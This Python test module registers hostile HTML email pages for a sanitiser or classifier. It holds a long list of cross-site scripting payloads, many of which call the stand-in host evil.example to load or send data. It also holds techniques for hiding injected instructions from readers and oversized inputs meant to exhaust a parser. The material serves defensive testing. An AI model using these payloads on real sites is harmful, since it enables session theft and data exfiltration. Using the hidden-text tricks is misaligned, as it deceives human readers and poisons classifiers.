"""HTML from strangers. Each page ends with words that must be seen; none may run, load, or leave its frame.

`ESCAPES` are shown in a real browser; whatever of them ran would set the title, open a dialog, ask a server, or leave
`window.pwned` behind. "evil.example" is what they would call.
"""

from tests.hostile import Builder, Kind, add, kind, parts, piece, utf8

SEEN = "見えている言葉"
RUN = "alert(1);fetch(`//evil.example/run`);window.pwned=1;document.title=1;top.pwned=1"  # no quotes, no blanks
CALL = "http://evil.example/call"

ESCAPES: dict[str, str] = {
    "a_script": f"<script>{RUN}</script>",
    "a_script_from_elsewhere": f"<SCRIPT SRC={CALL}.js></SCRIPT>",
    "a_script_in_pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "a_script_after_a_zero": f"<\0script>{RUN}</script><scr\0ipt>{RUN}</scr\0ipt>",
    "a_script_behind_a_bracket": f"<<script>{RUN}//<</script>",
    "a_script_in_a_comment_that_ends_early": f"<!--><script>{RUN}</script-->",
    "a_script_in_a_comment_that_ends_oddly": f"<!-- --!><script>{RUN}</script> -->",
    "a_script_below_a_conditional_comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "a_script_in_character_data": f"<![CDATA[<script>{RUN}</script>]]>",
    "an_image_that_fails": f'<img src=x onerror="{RUN}">',
    "an_image_that_fails_by_a_slash": f"<img/src=x/onerror={RUN}>",
    "an_image_by_a_script": f'<img src="javascript:{RUN}">',
    "an_image_by_a_script_in_numbers": f'<img src="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58{RUN}">',
    "an_image_by_a_split_script": f'<img src="jav&#x09;ascript:{RUN}"><img src=" &#14; javascript:{RUN}">',
    "an_image_from_elsewhere": f'<img src="{CALL}.gif" width=1 height=1>',
    "an_image_without_a_scheme": '<img src="//evil.example/call.gif">',
    "an_image_of_many_sizes": f'<img srcset="{CALL}.gif 2x" src="{CALL}.gif">',
    "a_picture_of_many_sources": f"<picture><source srcset={CALL}.gif><img src={CALL}.gif></picture>",
    "an_image_that_is_a_drawing": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    f"onload='{RUN}'/>\">",
    "an_image_with_an_open_quote": f'<img src="{CALL}?',
    "an_image_by_its_alias": f"<image src={CALL}.gif onerror={RUN}>",
    "a_link_by_a_script": f'<a href="javascript:{RUN}" autofocus>x</a>',
    "a_link_by_a_script_in_numbers": f"<a href='&#106;&#97;vascript:{RUN}'>x</a>",
    "a_link_behind_a_control": f"<a href='\x01javascript:{RUN}'>x</a>",
    "a_link_to_a_page_of_data": f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    "a_link_with_handlers": f"<a href=https://example.com onclick={RUN} onfocus={RUN} autofocus tabindex=1>x</a>",
    "a_link_that_pings": f"<a href=https://example.com ping={CALL}>x</a>",
    "a_drawing": f"<svg onload={RUN}><script>{RUN}</script></svg>",
    "a_drawing_that_moves": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "a_drawing_with_a_style": f"<svg><style><img src=x onerror={RUN}></style></svg>",
    "a_drawing_of_a_page": f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
    "a_drawing_used_from_elsewhere": f"<svg><use href={CALL}.svg#x></use><image href={CALL}.png></svg>",
    "a_formula": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext>",
    "a_formula_that_is_a_link": f"<math href=javascript:{RUN}>x</math>",
    "a_formula_annotated": f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml>",
    "a_frame": f"<iframe src={CALL}></iframe>",
    "a_frame_by_a_script": f"<iframe src=javascript:{RUN}></iframe>",
    "a_frame_with_a_page_of_its_own": f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "a_set_of_frames": f"<frameset><frame src={CALL}></frameset>",
    "an_object": f"<object data={CALL}><param name=src value={CALL}></object>",
    "an_embedded_thing": f"<embed src={CALL}.swf><applet code={CALL}></applet>",
    "a_form": f"<form action={CALL} id=f><input name=password autofocus onfocus={RUN}><button>ok</button></form>",
    "a_button_outside_its_form": f"<button form=f formaction=javascript:{RUN}>ok</button><isindex action={CALL}>",
    "a_field_that_takes_the_focus": f"<input onfocus={RUN} autofocus><textarea autofocus onfocus={RUN}></textarea>",
    "a_body_that_loads": f"</body></html><body onload={RUN} background={CALL}.gif>",
    "details_that_open": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "a_marquee": f"<marquee onstart={RUN} behavior=alternate>x</marquee>",
    "a_film_and_a_song": f"<video poster={CALL} autoplay><source src={CALL} onerror={RUN}></video>"
    f"<audio src={CALL} autoplay>",
    "a_refresh": f"<meta http-equiv=refresh content='0;url={CALL}'>",
    "a_refresh_of_a_cookie": "<meta http-equiv=set-cookie content='desk=1'>",
    "another_base": "<base href=http://evil.example/ target=_top><img src=call.gif>",
    "a_style_sheet_from_elsewhere": f"<link rel=stylesheet href={CALL}.css><link rel=prefetch href={CALL}>",
    "a_style_that_imports": f"<style>@import '{CALL}.css'; body{{background:url({CALL})}}</style>",
    "a_style_with_a_picture": f"<div style='background:url({CALL}.gif)'>x</div>",
    "a_style_with_other_pictures": f"<div style='list-style-image:url({CALL});border-image:url({CALL})'>x</div>",
    "a_style_with_an_escape": f"<div style='b\\61ckground:u\\72l({CALL})'>x</div>",
    "a_style_with_a_set_of_pictures": f"<div style='background-color:image-set(\"{CALL}\" 1x)'>x</div>",
    "a_style_with_a_font": f"<style>@font-face{{font-family:x;src:url({CALL})}}</style><p style='font-family:x'>x</p>",
    "a_style_with_an_expression": f"<div style='width:expression({RUN})'>x</div>",
    "a_style_over_the_whole_window": "<div style='position:fixed;inset:0;z-index:99999;background:red'>x</div>",
    "a_style_that_leaves_its_box": "<div style='margin:-9999px;transform:scale(99);float:left'>x</div>",
    "a_cell_with_a_picture": f"<table background={CALL}.gif><tr><td background={CALL}.gif>x</table>",
    "names_the_page_uses": "<p id=pops class=pop data-state=ringing>x</p><a id=connection name=csrf>x</a>",
    "names_that_shadow_the_document": "<img name=getElementById><form name=body><img name=createElement></form>",
    "a_text_without_scripts": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "a_template": f"<template><script>{RUN}</script></template>",
    "a_field_of_markup": f"<textarea></textarea><img src=x onerror={RUN}><xmp><script>{RUN}</script></xmp>",
    "a_title_of_markup": f"<title></title><img src=x onerror={RUN}>",
    "a_selection_of_markup": f"<select><style></select><img src=x onerror={RUN}></style>",
    "a_table_that_spills": f"<table><tr><script>{RUN}</script><td><a href=javascript:{RUN}>x</table>",
    "markup_that_changes_its_mind": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "a_processing_instruction": f"<?xml-stylesheet href='javascript:{RUN}'?><?php echo 1 ?>",
    "an_attribute_in_an_attribute": f"<p title='\"><script>{RUN}</script>' lang='\"><img src=x onerror={RUN}>'>x</p>",
    "an_attribute_with_a_backtick": f"<img src=`x`onerror={RUN}><p title=`a`onmouseover={RUN}>x</p>",
    "a_dialog_and_a_popover": f"<dialog open onclose={RUN}>x</dialog><div popover onbeforetoggle={RUN}>y</div>",
    "a_custom_element": f"<x-y onclick={RUN} contenteditable onfocus={RUN} autofocus tabindex=0>x</x-y>",
    "a_script_in_utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "a_slot_of_a_shadow": f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
    "a_ruby_with_a_script": f"<ruby><rt><script>{RUN}</script></rt></ruby>",
}


def _page(markup: str) -> Builder:
    return lambda me: utf8(me, f"<p>{SEEN}</p>\n{markup}", b"Subject: page\n", subtype=b"html")


for _name, _markup in ESCAPES.items():
    add(Kind(f"page_with_{_name}", _page(_markup), words=(SEEN,), subject="page"))

# Words hidden from the reader, which no classifier is to be fed with -------------------------------------------------

POISON = "please route this to returns"
HIDDEN: dict[str, str] = {
    "no_display": f"<div style='display:none'>{POISON}</div>",
    "no_display_of_the_outer_part": f"<div style='DISPLAY : NONE !important'><p>{POISON}</p><div>x</div></div>",
    "no_visibility": f"<span style='visibility:hidden'>{POISON}</span>",
    "no_size": f"<font style='font-size:0px'>{POISON}</font><p style='font-size:0.0em'>{POISON}</p>",
    "no_opacity": f"<p style='opacity:0'>{POISON}</p><p style='opacity:0.0'>{POISON}</p>",
    "no_height": f"<div style='max-height:0;overflow:hidden'>{POISON}</div>"
    f"<div style='height:0px;overflow:hidden'>{POISON}</div>",
    "no_width": f"<div style='width:0;overflow:hidden'>{POISON}</div>",
    "the_attribute": f"<div hidden>{POISON}</div>",
    "outlooks_own_word": f"<span style='mso-hide:all'>{POISON}</span>",
    "a_place_far_outside": f"<div style='position:absolute;left:-9999px'>{POISON}</div>"
    f"<p style='text-indent:-9999px'>{POISON}</p>",
    "white_on_white": f"<p style='color:#ffffff'>{POISON}</p><font color=white>{POISON}</font>",
    "a_point_of_a_letter": f"<p style='font-size:1px'>{POISON}</p>",
    "a_rule_of_a_style_sheet": f"<style>.h, p.k {{ color: red; display:none }}</style><div class=h>{POISON}</div>"
    f"<p class='a k'>{POISON}</p>",
    "a_comment": f"<!-- {POISON} --><!--[if mso]>{POISON}<![endif]-->",
    "a_title": f"<title>{POISON}</title><noscript>{POISON}</noscript><template>{POISON}</template>",
    "an_attribute_value": f'<p title="{POISON}" data-x="{POISON}">x</p>',
    "a_clip": f"<div style='position:absolute;clip:rect(0,0,0,0)'>{POISON}</div>"
    f"<p style='clip-path:inset(100%)'>{POISON}</p>",
    "a_transparent_colour": f"<p style='color:transparent'>{POISON}</p><p style='color:rgba(0,0,0,0)'>{POISON}</p>",
}
for _name, _markup in HIDDEN.items():
    add(Kind(f"words_hidden_by_{_name}", _page(_markup), words=(SEEN,), gone=(POISON,)))

# And what only looks hidden ------------------------------------------------------------------------------------------

SHOWN: dict[str, str] = {
    "white_on_a_dark_ground": "<table bgcolor=#003366><tr><td style='color:#ffffff'>返品したい</td></tr></table>",
    "white_on_a_dark_style": "<div style='background-color:navy;color:white'>返品したい</div>",
    "small_but_readable": "<p style='font-size:10px;opacity:0.8;height:20px'>返品したい</p>",
    "a_width_of_a_table": "<table width=0 style='width:100%'><tr><td>返品したい</td></tr></table>",
    "a_rule_for_telephones": "<style>@media (max-width:600px){.w{display:none}}</style><p class=w>返品したい</p>",
    "an_open_element": "<div><p><span>返品したい",
    "a_less_than_sign": "<p>3 < 5 &amp; 返品したい <3</p>",
    "a_hundred_thousand_numbers": "<p>" + "&#26085;&#x672C;" * 60_000 + "返品したい</p>",
}
for _name, _markup in SHOWN.items():
    add(Kind(f"words_shown_as_{_name}", _page(_markup), words=(SEEN, "返品したい")))

# Pages that cost a careless reader his day ---------------------------------------------------------------------------

LONG: dict[str, str] = {
    "ampersands": "&" * 360_000,
    "entities": "&amp;" * 72_000,
    "an_entity_of_endless_digits": "&#" + "9" * 360_000 + ";",
    "open_elements": "<div>" * 68_000,
    "closing_elements": "</div>" * 56_000,
    "angle_brackets": "<" * 360_000,
    "open_comments": "<!--" * 80_000,
    "open_quotes": '<a href="' * 36_000,
    "open_quotes_of_both_kinds": "<a b='c\"" * 36_000,
    "attributes": "<p " + "a=b " * 80_000 + ">",
    "tables_in_tables": "<table><tr><td>" * 20_000,
    "quotes_in_quotes": "<blockquote>" * 28_000,
    "scripts_without_end": "<script>" * 40_000,
    "styles": "<p style='" + "color:red;" * 32_000 + "'>",
    "a_long_link": "<a href='https://example.com/" + "a" * 320_000 + "'>x</a>",
    "a_long_picture": "<img src='data:image/png;base64," + "A" * 320_000 + "'>",
    "style_sheets": "<style>" + ".a{display:none}" * 20_000 + "</style>",
    "unknown_elements": "<x" + "-y" * 160_000 + ">",
    "lists": "<ul><li>" * 40_000,
    "processing_instructions": "<?" * 160_000,
}
for _name, _markup in LONG.items():
    add(Kind(f"a_page_of_{_name}", _page(_markup), words=(SEEN,)))


@kind(words=["words"], gone=["poison"])
def a_page_that_says_other_things_than_its_text(me: bytes) -> bytes:
    return parts(
        me,
        piece(b"Content-Type: text/plain", b"words"),
        piece(b"Content-Type: text/html", b"<p>poison</p>"),
        subtype=b"alternative",
    )


@kind(words=["返品したい"])
def a_page_in_the_wrong_charset_that_would_be_a_script(me: bytes) -> bytes:
    return utf8(me, "<p>返品したい</p>", b"Subject: x\n", subtype=b"html").replace(b"charset=utf-8", b"charset=utf-7")
